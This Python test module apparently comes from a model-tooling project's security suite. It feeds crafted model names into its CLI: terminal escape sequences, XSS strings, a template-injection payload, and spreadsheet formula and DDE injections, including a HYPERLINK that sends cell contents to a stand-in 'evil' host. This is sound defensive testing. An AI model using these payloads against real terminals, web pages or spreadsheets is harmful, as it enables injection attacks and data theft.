"""Names in model files that aim at what is written: the terminal, the page, a spreadsheet that opens the JSON or the table."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import numpy as np

from tests.attacks.attack import Attack, dumped
from tests.attacks.own_format import document

NAMES = {
    "terminal: clear": "fc\x1b[2J\x1b[H",
    "terminal: title": "\x1b]0;owned\x07",
    "terminal: link": "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    "terminal: C1 codes": "\x9b2J\x9d0;owned\x9c",
    "terminal: right to left": "fc\u202egnp.exe",
    "terminal: carriage return": "evil\rgood",
    "terminal: lines": "a\n\nxaicore: all passed\n",
    "terminal: markup": "[bold red]passed[/bold red][link=file:///etc/passwd]x[/link]",
    "page: script": "<script>alert(1)</script>",
    "page: image": "<img src=x onerror=alert(1)>",
    "page: attribute": "\" onmouseover=\"alert(1)",
    "page: template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "page: end of style": "</style></svg><script src=//evil></script>",
    "spreadsheet: formula": "=HYPERLINK(\"http://evil/?\"&A1)",
    "spreadsheet: command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name of 100,000 letters": "a" * 100_000,
}


def named(name: str) -> bytes:
    """A sound model in which everything is called by ``name``."""
    doc: dict[str, Any] = copy.deepcopy(document())
    doc["name"] = name
    doc["meta"] = {"about": name, name: "x"}
    doc["nodes"][0].update(name=name, layer=name, origin=name)
    doc["outputs"] = [name]
    return dumped(doc)


def whole(name: str, out: str) -> Attack:
    def build(folder: Path) -> list[str]:
        (folder / "m.json").write_bytes(named(name))
        (folder / "x.json").write_text(json.dumps([[1.0, 2.0]]))
        np.save(folder / "x.npy", np.ones((1, 2)))
        return ["explain", str(folder / "m.json"), str(folder / "x.npy"), "-m", "lrp.epsilon", "--trace", "-o", str(folder / out)]

    return Attack(build, "", (0,))


ATTACKS = {
    **{f"page of {k}": whole(v, "out.html") for k, v in NAMES.items()},
    **{f"inspection of {k}": Attack(lambda folder, v=v: [(folder / "m.json").write_bytes(named(v)) and "inspect", str(folder / "m.json")], "", (0,))  # type: ignore[misc]
       for k, v in NAMES.items()},
    **{f"unknown operator called {k}": Attack(
        lambda folder, v=v: [(folder / "m.json").write_bytes(dumped({**document(), "nodes": [{**document()["nodes"][0], "op": v}]}))  # type: ignore[misc]
                             and "inspect", str(folder / "m.json")], "unknown operator", (4,), "m.json") for k, v in NAMES.items()},
}
